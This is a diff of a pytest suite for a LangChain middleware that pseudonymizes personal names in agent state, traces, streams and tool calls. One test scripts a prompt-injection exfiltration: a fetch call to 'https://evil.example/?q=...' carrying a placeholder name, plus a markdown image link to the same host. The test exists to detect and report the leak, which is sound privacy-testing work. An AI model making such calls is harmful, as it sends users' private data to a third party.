@@ -13,11 +13,13 @@ import numpy as np
 import pytest
 from fakes.canary import CANARY, leak_surfaces
 from fakes.rapt import sanitizer
+from fakes.styles import STYLES as ALL_STYLES
 from fakes.styles import gathered
 from langchain_core.documents import Document
 from langchain_core.language_models import BaseChatModel, GenericFakeChatModel
 from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage, HumanMessage, ToolMessage
 from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult
+from langchain_core.runnables import add
 from langchain_core.tools import InjectedToolCallId, tool
 from pydantic import BaseModel, Field
 
@@ -128,31 +130,46 @@ SAID = (
 )
 
 
-def built(saver: Any = None, key: Any = None, **options: Any) -> tuple[Writer, PseudonymMiddleware, Any]:
+def pseudonymized(
+    model: Any, tools: Sequence[Any] = (), *others: Any, saver: Any = None, inside: Any = "all", key: Any = None,
+    pseudonymizer: Pseudonymizer | None = None, **options: Any,
+) -> tuple[PseudonymMiddleware, Any]:  # fmt: skip
+    """An agent around the model, with other middleware before ours."""
+    key = fernet.Fernet.generate_key() if key is True else key or None
+    middleware = PseudonymMiddleware(pseudonymizer or Pseudonymizer(terms=TERMS), tools_inside=inside, key=key)
+    made = create_agent(model, list(tools), middleware=[*others, middleware], checkpointer=saver, **options)
+    return middleware, middleware.around(made)
+
+
+def built(saver: Any = None, key: Any = None) -> tuple[Writer, PseudonymMiddleware, Any]:
     GIVEN.clear()
     model = Writer()
-    options.setdefault("tools_inside", ["inside", "also_inside"])
-    middleware = PseudonymMiddleware(Pseudonymizer(terms=TERMS), key=key, **options)
-    agent = create_agent(model, [inside, also_inside, outside], middleware=[middleware], checkpointer=saver)
-    return model, middleware, middleware.around(agent)
+    inside_tools = ["inside", "also_inside"]
+    return model, *pseudonymized(model, [inside, also_inside, outside], saver=saver, inside=inside_tools, key=key)
+
+
+def calling(name: str, *then: str, **args: Any) -> Scripted:
+    """A model that calls one tool, and then says these."""
+    call = AIMessage("", tool_calls=[{"name": name, "args": args, "id": "1"}])
+    return Scripted(messages=iter([call, *map(AIMessage, then)]))
 
 
 def asked(question: str = QUESTION) -> dict[str, Any]:
     return {"messages": [HumanMessage(question)]}
 
 
-def held(saver: InMemorySaver) -> str:
-    """Everything that a checkpointer holds, as text."""
-    return repr(saver.storage) + repr(saver.writes) + repr(saver.blobs)
+def seen_in(saver: InMemorySaver, *more: Any) -> set[str]:
+    """Names that a checkpointer, or anything else, holds in clear."""
+    held = repr(saver.storage) + repr(saver.writes) + repr(saver.blobs) + "".join(map(repr, more))
+    return {name for name in TERMS if name in held}
 
 
+CONFIG: Any = {"configurable": {"thread_id": "t"}}
+MODES = {"stream_mode": "values"}
 STYLES: dict[str, Callable[[Any, Any, Any], Any]] = {
-    "invoke": lambda made, given, config: made.invoke(given, config),
-    "stream": lambda made, given, config: list(made.stream(given, config, stream_mode="values"))[-1],
-    "batch": lambda made, given, config: made.batch([given], config)[0],
-    "ainvoke": lambda made, given, config: asyncio.run(made.ainvoke(given, config)),
-    "abatch": lambda made, given, config: asyncio.run(made.abatch([given], config))[0],
-    "astream": lambda made, given, config: asyncio.run(gathered(made.astream(given, config, stream_mode="values")))[-1],
+    **{name: ALL_STYLES[name] for name in ("invoke", "batch", "ainvoke", "abatch")},
+    "stream": lambda made, given, config: list(made.stream(given, config, **MODES))[-1],
+    "astream": lambda made, given, config: asyncio.run(gathered(made.astream(given, config, **MODES)))[-1],
 }
 
 
@@ -161,9 +178,9 @@ STYLES: dict[str, Callable[[Any, Any, Any], Any]] = {
 def test_only_users_and_inside_tools_see_originals(style: str, key: bool, tmp_path: Path) -> None:
     """If it breaks, a name is in a trace, a checkpoint or what the model is told; or the user is given placeholders."""
     saver = InMemorySaver()
-    model, middleware, agent = built(saver, fernet.Fernet.generate_key() if key else None)
+    model, middleware, agent = built(saver, key)
     with leak_surfaces(tmp_path) as surfaces:
-        config: Any = {"callbacks": surfaces.handlers, "configurable": {"thread_id": "t"}}
+        config: Any = {"callbacks": surfaces.handlers, **CONFIG}
         state = STYLES[style](agent, asked(), config)
         again = STYLES[style](agent, asked(), config)
         assert surfaces.where(CANARY) == surfaces.where(SECOND) == set()
@@ -172,8 +189,7 @@ def test_only_users_and_inside_tools_see_originals(style: str, key: bool, tmp_pa
     assert again["messages"][0].content == QUESTION
     assert "pseudonyms" not in state
     assert sorted(GIVEN[:3]) == [f"also {CANARY}", f"inside {CANARY}", "outside <PERSON_1>"]
-    for private in (CANARY, SECOND, "third-canary"):
-        assert private not in repr(model.told) + held(saver) + repr(agent) + repr(middleware)
+    assert not seen_in(saver, model.told, agent, middleware)
     report = middleware.report(agent.agent.get_state(config))
     assert report.counts == {"PERSON": 3, "LITERAL": 1}
     assert "no epsilon" in str(report)
@@ -187,27 +203,23 @@ def test_a_bare_agent_shows_everything(tmp_path: Path) -> None:
     saver, model = InMemorySaver(), Writer()
     agent = create_agent(model, [inside, also_inside, outside], checkpointer=saver)
     with leak_surfaces(tmp_path) as surfaces:
-        agent.invoke(asked(), {"callbacks": surfaces.handlers, "configurable": {"thread_id": "t"}})
+        agent.invoke(asked(), {"callbacks": surfaces.handlers, **CONFIG})
         assert {"tracer", "handler"} <= surfaces.where(CANARY)
     assert CANARY in repr(model.told)
-    assert CANARY in held(saver)
+    assert CANARY in seen_in(saver)
 
 
 @pytest.mark.parametrize("asynchronous", [False, True])
 def test_streamed_marks_come_back_as_originals(asynchronous: bool) -> None:
     """If it breaks, a user who reads along sees placeholders, or half of one; or arguments of calls are no JSON."""
     _, _, agent = built()
-    if asynchronous:
-        parts = asyncio.run(gathered(agent.astream(asked(), stream_mode=["messages", "updates"])))
-    else:
-        parts = list(agent.stream(asked(), stream_mode=["messages", "updates"]))
+    modes: Any = {"stream_mode": ["messages", "updates"]}
+    parts = asyncio.run(gathered(agent.astream(asked(), **modes))) if asynchronous else agent.stream(asked(), **modes)
+    parts = list(parts)
     chunks = [payload[0] for mode, payload in parts if mode == "messages" and isinstance(payload[0], AIMessageChunk)]
     assert len(chunks) > 50
     assert "".join(chunk.content for chunk in chunks) == SAID
-    first = [chunk for chunk in chunks if chunk.id == chunks[0].id]
-    whole = first[0]
-    for chunk in first[1:]:
-        whole += chunk
+    whole = add(chunk for chunk in chunks if chunk.id == chunks[0].id)
     assert [call["args"] for call in whole.tool_calls] == [{"who": CANARY}] * 3
     updates = [payload for mode, payload in parts if mode == "updates"]
     assert SAID in repr(updates)
@@ -217,18 +229,17 @@ def test_streamed_marks_come_back_as_originals(asynchronous: bool) -> None:
 def test_another_process_goes_on_under_the_key() -> None:
     """If it breaks, a restart loses the map, gives two people one placeholder, or opens it without the key."""
     saver, key = InMemorySaver(), fernet.Fernet.generate_key()
-    config: Any = {"configurable": {"thread_id": "t"}}
-    built(saver, key)[2].invoke(asked(), config)
+    built(saver, key)[2].invoke(asked(), CONFIG)
     model, middleware, agent = built(saver, key)  # knows nothing but the key
     middleware._conversations._settings = Pseudonymizer(terms={"new person": "PERSON"})
-    state = agent.invoke(asked("Write to new person."), config)
+    state = agent.invoke(asked("Write to new person."), CONFIG)
     assert SAID in repr(state["messages"])
     assert "<PERSON_4>" in repr(model.told[0])
     assert "nothing on new person" in state["messages"][-1].content
-    assert CANARY not in repr(model.told) + held(saver)
-    for other in (None, fernet.Fernet.generate_key()):
+    assert not seen_in(saver, model.told)
+    for other in (None, True):
         with pytest.raises(PrivateDataError, match="key"):
-            built(saver, other)[2].invoke(asked(), config)
+            built(saver, other)[2].invoke(asked(), CONFIG)
 
 
 class Contact(BaseModel):
@@ -244,23 +255,19 @@ class Person:
     name: str
 
 
-class Former(Writer):
-    """Answers with the tool of the answer's form."""
-
-    form: str
-
-    def _answer(self, messages: list[BaseMessage]) -> AIMessage:
-        self.told.append(messages)
-        return AIMessage("", tool_calls=[{"name": self.form, "args": {"name": messages[0].content}, "id": "c"}])
-
-
 @pytest.mark.parametrize("form", [Contact, Person])
-def test_a_structured_answer_holds_originals(form: Any) -> None:
-    """If it breaks, the answer of an agent with response_format= holds placeholders."""
-    middleware = PseudonymMiddleware(Pseudonymizer(terms=TERMS))
-    model = Former(form=form.__name__)
-    agent = middleware.around(create_agent(model, [], middleware=[middleware], response_format=ToolStrategy(form)))
-    assert agent.invoke(asked(CANARY))["structured_response"] == form(name=CANARY)
+def test_a_structured_answer_holds_originals_and_is_hidden_once(form: Any) -> None:
+    """If it breaks, an answer of response_format= holds placeholders, or is sanitized anew, and paid for, each turn."""
+    then = sanitizer(keep=["write", "to", "go", "on"])
+    call = {"name": form.__name__, "args": {"name": "<PERSON_1>"}, "id": "1"}
+    model = Scripted(messages=iter([AIMessage("", tool_calls=[call | {"id": number}]) for number in "12"]))
+    hiding = Pseudonymizer(terms=TERMS, remaining_text_sanitizer=then)
+    form_of = ToolStrategy(form)
+    _, agent = pseudonymized(model, pseudonymizer=hiding, saver=InMemorySaver(), inside=(), response_format=form_of)
+    assert agent.invoke(asked(), CONFIG)["structured_response"] == form(name=CANARY)
+    before = then.certificate().releases
+    agent.invoke(asked("go on"), CONFIG)
+    assert then.certificate().releases == before + 1  # the new message alone
     assert CANARY not in repr(model.told)
 
 
@@ -280,9 +287,10 @@ class _Held(AgentMiddleware[Any, Any, Any]):
 
 def test_documents_and_messages_under_other_keys_are_hidden() -> None:
     """If it breaks, what stands beside the messages of an agent's input is in its state and its traces as it came."""
-    held, middleware = _Held(), PseudonymMiddleware(Pseudonymizer(terms=TERMS))
-    agent = middleware.around(create_agent(Writer(), [inside, also_inside, outside], middleware=[middleware, held]))
+    held = _Held()
     given = {"found": [Document(f"{CANARY} called")], "history": (HumanMessage(CANARY), Contact(name=CANARY))}
+    middleware = PseudonymMiddleware(Pseudonymizer(terms=TERMS))
+    agent = middleware.around(create_agent(Writer(), [inside, also_inside, outside], middleware=[middleware, held]))
     state = agent.invoke({**asked(), **given})
     assert CANARY not in repr(held.seen)
     assert "<PERSON_1> called" in repr(held.seen)
@@ -290,39 +298,34 @@ def test_documents_and_messages_under_other_keys_are_hidden() -> None:
     assert (state["history"][0].content, state["history"][1]) == (CANARY, Contact(name=CANARY))
 
 
-def test_conversations_do_not_share_placeholders() -> None:
-    """If it breaks, the placeholders of one user are put back into the answer to another."""
+async def test_conversations_are_apart_and_shown_again_with_their_originals() -> None:
+    """If it breaks, placeholders of one user are put back for another, or an old conversation shows placeholders."""
     _, _, agent = built(InMemorySaver())
-    one, two = ({"configurable": {"thread_id": name}} for name in "ab")
-    agent.invoke(asked(), one)
-    state = agent.invoke(asked(f"Write to {SECOND}."), two)
+    other: Any = {"configurable": {"thread_id": "other"}}
+    assert not agent.get_state(CONFIG).values
+    given = agent.invoke(asked(), CONFIG)["messages"]
+    state = agent.invoke(asked(f"Write to {SECOND}."), other)
     assert f"nothing on {SECOND}" in state["messages"][-1].content
-    assert "nothing on <PERSON_1>" in agent.agent.get_state(two).values["messages"][-1].content
-
-
-def test_the_history_of_a_conversation_holds_originals() -> None:
-    """If it breaks, an application that goes back in a conversation shows placeholders."""
-    _, _, agent = built(InMemorySaver())
-    config: Any = {"configurable": {"thread_id": "t"}}
-    agent.invoke(asked(), config)
-    newest, *older = agent.get_state_history(config)
+    assert "nothing on <PERSON_1>" in agent.agent.get_state(other).values["messages"][-1].content
+    for state in (agent.get_state(CONFIG), await agent.aget_state(CONFIG)):
+        assert [message.content for message in state.values["messages"]] == [message.content for message in given]
+        assert "pseudonyms" not in state.values
+    newest, *older = agent.get_state_history(CONFIG)
     assert len(older) > 2
     assert CANARY in repr(newest.values["messages"][-1])
-    said = [one.values["messages"][0].content for one in older if one.values.get("messages")]
-    assert set(said) == {QUESTION}
-
-    async def history() -> list[Any]:
-        return [one async for one in agent.aget_state_history(config)]
-
-    assert [one.values for one in asyncio.run(history())] == [newest.values, *(one.values for one in older)]
+    assert {one.values["messages"][0].content for one in older if one.values.get("messages")} == {QUESTION}
+    history = await gathered(agent.aget_state_history(CONFIG))
+    assert [one.values for one in history] == [newest.values, *(one.values for one in older)]
+    assert CANARY not in repr(agent.agent.get_state(CONFIG))
+    with pytest.raises(InvalidParameter, match="astream"):
+        agent.astream_events(asked(), CONFIG)
 
 
 def test_without_the_wrapper_the_model_is_told_placeholders_all_the_same() -> None:
     """If it breaks, forgetting ``around`` hands every name to the model."""
     model, _, agent = built(InMemorySaver())
-    config: Any = {"configurable": {"thread_id": "t"}}
     for _ in range(2):
-        state = agent.agent.invoke({"messages": [HumanMessage(QUESTION, id="not a uuid")]}, config)
+        state = agent.agent.invoke({"messages": [HumanMessage(QUESTION, id="not a uuid")]}, CONFIG)
     assert CANARY not in repr(model.told) + repr(state)
     assert "nothing on <PERSON_1>" in state["messages"][-1].content
 
@@ -349,22 +352,18 @@ def edits(
 @pytest.mark.parametrize("by", ["middleware", "caller", "state", "tool"])
 def test_a_hidden_message_that_was_changed_is_hidden_again(by: str, key: bool) -> None:
     """If it breaks, whoever copies a message with its mark, and adds to it, tells the model a name."""
-    calls = [{"name": "edits", "args": {"who": "<PERSON_1>"}, "id": "c"}]
-    said = [AIMessage("", tool_calls=calls)] if by == "tool" else []
-    model = Scripted(messages=iter([*said, *(AIMessage(f"turn {turn}") for turn in range(4))]))
-    middleware = PseudonymMiddleware(
-        Pseudonymizer(terms=TERMS), tools_inside="all", key=fernet.Fernet.generate_key() if key else None
-    )
-    more = [_Adds()] if by == "middleware" else []
-    agent = create_agent(model, [edits], middleware=[*more, middleware], checkpointer=InMemorySaver())
-    made, config = middleware.around(agent), {"configurable": {"thread_id": "t"}}
-    answer = made.invoke(asked(), config)
+    turns = [f"turn {turn}" for turn in range(4)]
+    model = calling("edits", *turns, who="<PERSON_1>") if by == "tool" else Scripted(messages=map(AIMessage, turns))
+    others = [_Adds()] if by == "middleware" else []
+    _, made = pseudonymized(model, [edits], *others, saver=InMemorySaver(), key=key)
+    answer = made.invoke(asked(), CONFIG)
     if by == "caller":
-        agent.invoke({"messages": [answer["messages"][0], HumanMessage("And again.")]}, config)
+        made.agent.invoke({"messages": [answer["messages"][0], HumanMessage("And again.")]}, CONFIG)
     if by == "state":
-        first = made.get_state(config).values["messages"][0]
-        agent.update_state(config, {"messages": [first.model_copy(update={"content": f"{first.content} Now."})]})
-    made.invoke(asked("Go on."), config)
+        first = made.get_state(CONFIG).values["messages"][0]
+        changed = first.model_copy(update={"content": f"{first.content} Now."})
+        made.agent.update_state(CONFIG, {"messages": [changed]})
+    made.invoke(asked("Go on."), CONFIG)
     assert CANARY not in repr(model.told)
     assert len(model.told) == 2 + (by in ("caller", "tool"))
     assert "<PERSON_1>" in repr(model.told[-1])
@@ -382,39 +381,30 @@ def test_a_hidden_message_that_was_changed_is_hidden_again(by: str, key: bool) -
 )
 def test_a_command_is_hidden_whatever_its_form(command: Any) -> None:
     """If it breaks, what a command puts into the state, or sends to a node, is in checkpoints and traces as it came."""
-    saver = InMemorySaver()
-    model = Scripted(messages=iter([AIMessage("one"), AIMessage("two"), AIMessage("three")]))
-    middleware = PseudonymMiddleware(Pseudonymizer(terms=TERMS))
-    made = middleware.around(create_agent(model, [], middleware=[middleware], checkpointer=saver))
-    config: Any = {"configurable": {"thread_id": "t"}}
-    made.invoke(asked("Hello."), config)
-    made.invoke(command, config)
-    assert CANARY not in repr(model.told) + held(saver)
+    saver, model = InMemorySaver(), Scripted(messages=map(AIMessage, ("one", "two", "three")))
+    _, made = pseudonymized(model, saver=saver)
+    made.invoke(asked("Hello."), CONFIG)
+    made.invoke(command, CONFIG)
+    assert not seen_in(saver, model.told)
     assert "<PERSON_1>" in repr(model.told)
     with pytest.raises(InvalidParameter, match="got HumanMessage"):
-        made.invoke(Command(update=HumanMessage(QUESTION)), config)
+        made.invoke(Command(update=HumanMessage(QUESTION)), CONFIG)
 
 
 @pytest.mark.parametrize("around", [True, False])
 def test_the_words_between_are_sanitized_however_the_agent_is_called(around: bool) -> None:
-    """If it breaks, the model is told raw words that remaining_text_sanitizer= promises to sanitize, and the report
-    repeats the promise.
-    """
+    """If it breaks, the model is told raw words that remaining_text_sanitizer= promises to sanitize."""
     model, then = Writer(), sanitizer(keep=["write", "to"])
-    middleware = PseudonymMiddleware(
-        Pseudonymizer(terms=TERMS, remaining_text_sanitizer=then, messages=MessageRules(system="sanitize")),
-        tools_inside="all",
-    )
-    agent = create_agent(
-        model, [inside, also_inside, outside], middleware=[middleware], system_prompt=f"the prompt of {CANARY} tulip"
-    )
-    answer = (middleware.around(agent) if around else agent).invoke(asked(f"Write to {CANARY} tulip"))
+    rules = MessageRules(system="sanitize")
+    _, agent = pseudonymized(
+        model, [inside, also_inside, outside], system_prompt=f"the prompt of {CANARY} tulip",
+        pseudonymizer=Pseudonymizer(terms=TERMS, remaining_text_sanitizer=then, messages=rules),
+    )  # fmt: skip
+    assert (agent if around else agent.agent).invoke(asked(f"Write to {CANARY} tulip"))
     first = [str(message.content) for message in model.told[0]]
     assert len(first) == 2
     assert all("<PERSON_1>" in text for text in first)
-    assert "tulip" not in repr(model.told)
-    assert "friend" not in repr(model.told)  # what the tool inside said
-    assert answer
+    assert not [word for word in ("tulip", "friend") if word in repr(model.told)]  # of the user, and of the tool inside
 
 
 def test_a_failing_tool_says_nothing() -> None:
@@ -425,85 +415,50 @@ def test_a_failing_tool_says_nothing() -> None:
         """Fail."""
         raise RuntimeError(f"no {who}")
 
-    middleware = PseudonymMiddleware(Pseudonymizer(terms=TERMS), tools_inside="all")
-    agent = middleware.around(create_agent(Writer(), [failing, also_inside, outside], middleware=[middleware]))
     with pytest.raises(Redacted) as caught:
-        agent.invoke(asked())
+        pseudonymized(Writer(), [failing, also_inside, outside])[1].invoke(asked())
     assert CANARY not in repr(caught.value)
     assert caught.value.__cause__ is None
 
 
 def test_wrong_arguments_are_named() -> None:
-    """If it breaks, a wrong key or a tool's name alone ends in a foreign error, or shows the key."""
-    with pytest.raises(InvalidParameter, match="list of names"):
-        PseudonymMiddleware(tools_inside="inside")
-    with pytest.raises(InvalidParameter, match="Pseudonymizer"):
-        PseudonymMiddleware(3)  # type: ignore[arg-type]
-    with pytest.raises(InvalidParameter, match="32 bytes") as caught:
-        PseudonymMiddleware(key="secret-key")
-    assert "secret-key" not in str(caught.value)
+    """If it breaks, a wrong key or a tool's name alone ends in a foreign error, or a mistyped tool acts on nobody."""
+    for wrong, said in (
+        (lambda: PseudonymMiddleware(tools_inside="inside"), "list of names"),
+        (lambda: PseudonymMiddleware(3), "Pseudonymizer"),  # type: ignore[arg-type]
+        (lambda: PseudonymMiddleware(key="secret-key"), "32 bytes"),
+        (lambda: pseudonymized(Writer(), [edits], inside=["edits", "edit"]), r"\['edit'\] would be given placeholders"),
+        (lambda: pseudonymized(Writer(), [], inside=["edits", "edit"]), r"\['edit', 'edits'\] would be given place"),
+        (lambda: PseudonymMiddleware().around(create_agent(Writer(), [])), "this middleware in its list"),
+    ):
+        with pytest.raises(InvalidParameter, match=said) as caught:
+            wrong()
+        assert "secret-key" not in str(caught.value)
 
 
-def test_a_call_that_a_person_edits_reaches_the_tool_as_it_was_edited() -> None:
-    """If it breaks, a mail goes to a placeholder, and nobody is told."""
-    sent = []
-
-    @tool("send_mail")
-    def send_mail(to: str) -> str:
-        """Send."""
-        sent.append(to)
-        return f"sent to {to}"
-
-    asks = HumanInTheLoopMiddleware(interrupt_on={"send_mail": True})
-    middleware = PseudonymMiddleware(Pseudonymizer(terms=TERMS), tools_inside="all")
-    said = AIMessage("", tool_calls=[{"name": "send_mail", "args": {"to": "<PERSON_1>"}, "id": "1"}])
-
-    def made(*order: Any) -> Any:
-        return create_agent(
-            Scripted(messages=iter([said, AIMessage("done")])),
-            [send_mail],
-            middleware=order,
-            checkpointer=InMemorySaver(),
-        )
-
-    with pytest.raises(InvalidParameter, match=r"PseudonymMiddleware after HumanInTheLoopMiddleware .* last"):
-        made(middleware, asks)
-    agent, config = middleware.around(made(asks, middleware)), {"configurable": {"thread_id": "t"}}
-    agent.invoke(asked(f"Write to {CANARY}."), config)
-    assert CANARY in repr(agent.get_state(config).tasks)  # what a person is shown before deciding
-    edited = {"type": "edit", "edited_action": {"name": "send_mail", "args": {"to": SECOND}}}
-    agent.invoke(Command(resume={"decisions": [edited]}), config)
-    assert sent == [SECOND]
+@tool
+def send_mail(to: str) -> str:
+    """Send a mail."""
+    GIVEN.append(to)
+    return f"sent to {to}"
 
 
-@pytest.mark.parametrize("decision", ["approve", "reject"])
-def test_a_decision_stays_what_it_is_where_words_are_sanitized(decision: str) -> None:
-    """If it breaks, the noise of remaining_text_sanitizer= makes another word of "reject", and the call goes out."""
-    sent = []
-
-    @tool
-    def send_mail(to: str) -> str:
-        """Send a mail."""
-        sent.append(to)
-        return "sent"
-
-    then = RAPTSanitizer(Vocabulary(["approve", "reject"], np.array([[0.0], [1.0]], np.float32), name="two"), eta=1e-3)
-    middleware = PseudonymMiddleware(Pseudonymizer(terms=TERMS, remaining_text_sanitizer=then), tools_inside="all")
+@pytest.mark.parametrize("decision", ["edit", "approve", "reject"])
+def test_a_decision_of_a_person_reaches_the_tool_as_it_is(decision: str) -> None:
+    """If it breaks, a mail goes to a placeholder, or noise makes another word of "reject", which then goes out."""
+    table = Vocabulary(["approve", "reject"], np.array([[0.0], [1.0]], np.float32), name="two")
+    hiding = Pseudonymizer(terms=TERMS, remaining_text_sanitizer=RAPTSanitizer(table, eta=1e-3))
+    GIVEN.clear()
     for turn in range(12):  # of noise that hardly knows the word half would be others
-        said = AIMessage("", tool_calls=[{"name": "send_mail", "args": {"to": "<PERSON_1>"}, "id": "1"}])
         asks = HumanInTheLoopMiddleware(interrupt_on={"send_mail": True})
-        agent = middleware.around(
-            create_agent(
-                Scripted(messages=iter([said, AIMessage("done")])),
-                [send_mail],
-                middleware=[asks, middleware],
-                checkpointer=InMemorySaver(),
-            )
-        )
+        model = calling("send_mail", "done", to="<PERSON_1>")
+        _, agent = pseudonymized(model, [send_mail], asks, saver=InMemorySaver(), pseudonymizer=hiding)
         config: Any = {"configurable": {"thread_id": str(turn)}}
         agent.invoke(asked(), config)
-        agent.invoke(Command(resume={"decisions": [{"type": decision}]}), config)
-    assert len(sent) == 12 * (decision == "approve")
+        assert CANARY in repr(agent.get_state(config).tasks)  # what a person is shown before deciding
+        edited = {"edited_action": {"name": "send_mail", "args": {"to": SECOND}}} if decision == "edit" else {}
+        agent.invoke(Command(resume={"decisions": [{"type": decision, **edited}]}), config)
+    assert {"edit": [SECOND] * 12, "approve": [CANARY] * 12, "reject": []}[decision] == GIVEN
 
 
 @pytest.mark.parametrize("key", [False, True], ids=["memory", "key"])
@@ -515,23 +470,16 @@ def test_what_an_inside_tool_asks_and_sends_is_hidden_in_the_state(key: bool) ->
         """Ask a person first."""
         interrupt(f"Send to {to}?")
         message = ToolMessage("done", tool_call_id=tool_call_id)
-        return Command(
-            update={"messages": [message]}, goto=[Send("model", {"messages": [HumanMessage(f"{to} knows {SECOND}")]})]
-        )
+        sent = Send("model", {"messages": [HumanMessage(f"{to} knows {SECOND}")]})
+        return Command(update={"messages": [message]}, goto=[sent])
 
-    saver = InMemorySaver()
-    call = {"name": "ask_first", "args": {"to": "<PERSON_1>"}, "id": "1"}
-    model = Scripted(messages=iter([AIMessage("", tool_calls=[call]), *(AIMessage(f"said {n}") for n in range(5))]))
-    middleware = PseudonymMiddleware(
-        Pseudonymizer(terms=TERMS), tools_inside="all", key=fernet.Fernet.generate_key() if key else None
-    )
-    agent = middleware.around(create_agent(model, [ask_first], middleware=[middleware], checkpointer=saver))
-    config: Any = {"configurable": {"thread_id": "t"}}
-    agent.invoke(asked(), config)
-    assert CANARY in repr(agent.get_state(config).tasks)
-    agent.invoke(Command(resume="yes"), config)
-    agent.invoke(asked("And now?"), config)
-    assert not [name for name in (CANARY, SECOND) if name in held(saver) + repr(model.told)]
+    saver, model = InMemorySaver(), calling("ask_first", *(f"said {n}" for n in range(5)), to="<PERSON_1>")
+    _, agent = pseudonymized(model, [ask_first], saver=saver, key=key)
+    agent.invoke(asked(), CONFIG)
+    assert CANARY in repr(agent.get_state(CONFIG).tasks)
+    agent.invoke(Command(resume="yes"), CONFIG)
+    agent.invoke(asked("And now?"), CONFIG)
+    assert not seen_in(saver, model.told)
 
 
 @tool
@@ -545,24 +493,12 @@ def test_a_tool_inside_is_given_no_address_with_a_name() -> None:
     """If it breaks, a document makes the model call a tool of ours that carries a name to a host of its choice."""
     GIVEN.clear()
     evil = "https://evil.example/?q=of <PERSON_1>"
-    calls = [{"name": "fetch", "args": {"url": evil, "note": "for <PERSON_1>"}, "id": "1"}]
-    model = Scripted(messages=iter([AIMessage("", tool_calls=calls), AIMessage(f"![x](<{evil}>)")]))
-    middleware = PseudonymMiddleware(Pseudonymizer(terms=TERMS), tools_inside="all")
-    agent = middleware.around(create_agent(model, [fetch], middleware=[middleware], checkpointer=InMemorySaver()))
-    config: Any = {"configurable": {"thread_id": "1"}}
-    answer = agent.invoke(asked(), config)
+    model = calling("fetch", f"![x](<{evil}>)", url=evil, note="for <PERSON_1>")
+    middleware, agent = pseudonymized(model, [fetch], saver=InMemorySaver())
+    answer = agent.invoke(asked(), CONFIG)
     assert [f"fetch {evil} for {CANARY}"] == GIVEN
     assert answer["messages"][-1].content == f"![x](<{evil}>)"
-    assert middleware.report(agent.agent.get_state(config)).left_in_addresses == 1
-
-
-def test_a_tool_inside_that_the_agent_does_not_have_is_refused() -> None:
-    """If it breaks, a tool whose name was mistyped acts on placeholders, and the conversation shows originals."""
-    middleware = PseudonymMiddleware(Pseudonymizer(terms=TERMS), tools_inside=["edits", "edit"])
-    for tools in ([edits], []):
-        agent = create_agent(Scripted(messages=iter([])), tools, middleware=[middleware])
-        with pytest.raises(InvalidParameter, match=r"\['edit'(, 'edits')?\] would be given placeholders"):
-            middleware.around(agent)
+    assert middleware.report(agent.agent.get_state(CONFIG)).left_in_addresses == 1
 
 
 @dataclasses.dataclass
@@ -585,41 +521,17 @@ def test_all_that_a_tool_returns_is_hidden(form: str, inside: bool) -> None:
             return Command(update={"messages": [answer, ("user", f"Ask {SECOND}.")]})
         return Command(update=_Update([answer]))
 
-    saver = InMemorySaver()
-    call = {"name": "finds", "args": {"to": "<PERSON_1>"}, "id": "1"}
-    model = Scripted(messages=iter([AIMessage("", tool_calls=[call]), AIMessage("Thank <PERSON_2>.")]))
-    middleware = PseudonymMiddleware(
-        Pseudonymizer(terms=TERMS), tools_inside="all" if inside else (), key=fernet.Fernet.generate_key()
-    )
-    agent = middleware.around(create_agent(model, [finds], middleware=[middleware], checkpointer=saver))
-    config: Any = {"configurable": {"thread_id": "t"}}
+    saver, model = InMemorySaver(), calling("finds", "Thank <PERSON_2>.", to="<PERSON_1>")
+    _, agent = pseudonymized(model, [finds], saver=saver, inside="all" if inside else (), key=True)
     if form == "command of no mapping":
         with pytest.raises(InvalidParameter, match="to be a mapping, got _Update") as error:
-            agent.invoke(asked(), config)
+            agent.invoke(asked(), CONFIG)
         assert SECOND not in str(error.value)
     else:
-        *_, answer = agent.invoke(asked(), config)["messages"]
+        *_, answer = agent.invoke(asked(), CONFIG)["messages"]
         assert answer.content == f"Thank {SECOND}."
         assert repr(model.told[-1]).count("<PERSON_2>") == 2
-    assert not [name for name in (CANARY, SECOND) if name in held(saver) + repr(model.told)]
-
-
-def test_what_answers_a_structured_output_is_hidden_once() -> None:
-    """If it breaks, its message is sanitized anew in every turn, and paid for."""
-    then = sanitizer(keep=["write", "to", "go", "on"])
-    said = {"name": "Contact", "args": {"name": "<PERSON_1>"}, "id": "1"}
-    model = Scripted(messages=iter([AIMessage("", tool_calls=[said]), AIMessage("", tool_calls=[said | {"id": "2"}])]))
-    middleware = PseudonymMiddleware(Pseudonymizer(terms=TERMS, remaining_text_sanitizer=then))
-    agent = middleware.around(
-        create_agent(
-            model, [], middleware=[middleware], response_format=ToolStrategy(Contact), checkpointer=InMemorySaver()
-        )
-    )
-    config: Any = {"configurable": {"thread_id": "t"}}
-    agent.invoke(asked(), config)
-    before = then.certificate().releases
-    agent.invoke(asked("go on"), config)
-    assert then.certificate().releases == before + 1  # the new message alone
+    assert not seen_in(saver, model.told)
 
 
 @pytest.mark.parametrize("spelled", [str, lambda key: key + "\n", lambda key: key.encode()])
@@ -630,31 +542,17 @@ def test_a_key_has_one_meaning_however_it_is_spelled(spelled: Any) -> None:
     assert one == other
 
 
-async def test_a_conversation_is_shown_again_with_its_originals() -> None:
-    """If it breaks, a page that is opened again shows placeholders, or events do while the answer comes."""
-    _, _, agent = built(InMemorySaver())
-    config: Any = {"configurable": {"thread_id": "t"}}
-    assert not agent.get_state(config).values
-    given = agent.invoke(asked(), config)["messages"]
-    for state in (agent.get_state(config), await agent.aget_state(config)):
-        assert [message.content for message in state.values["messages"]] == [message.content for message in given]
-        assert "pseudonyms" not in state.values
-    assert CANARY not in repr(agent.agent.get_state(config))
-    with pytest.raises(InvalidParameter, match="astream"):
-        agent.astream_events(asked(), config)
-
-
 def test_what_would_tell_the_model_more_stands_before() -> None:
-    """If it breaks, what a later middleware adds to a request reaches the model as it is."""
+    """If it breaks, what a later middleware adds to a request reaches the model, or a call that it edits a tool."""
 
     class Adds(AgentMiddleware[Any, Any, Any]):
         def wrap_model_call(self, request: Any, handler: Any) -> Any:
             return handler(request.override(messages=[*request.messages, HumanMessage(f"{CANARY} is ill")]))
 
     middleware = PseudonymMiddleware(Pseudonymizer(terms=TERMS))
-    with pytest.raises(InvalidParameter, match="after Adds in the list"):
+    with pytest.raises(InvalidParameter, match=r"after Adds in the list.* last"):
         create_agent(Writer(), [], middleware=[middleware, Adds()])
     model = Scripted(messages=iter([AIMessage("Noted.")]))
-    middleware.around(create_agent(model, [], middleware=[Adds(), middleware])).invoke(asked("Hello"))
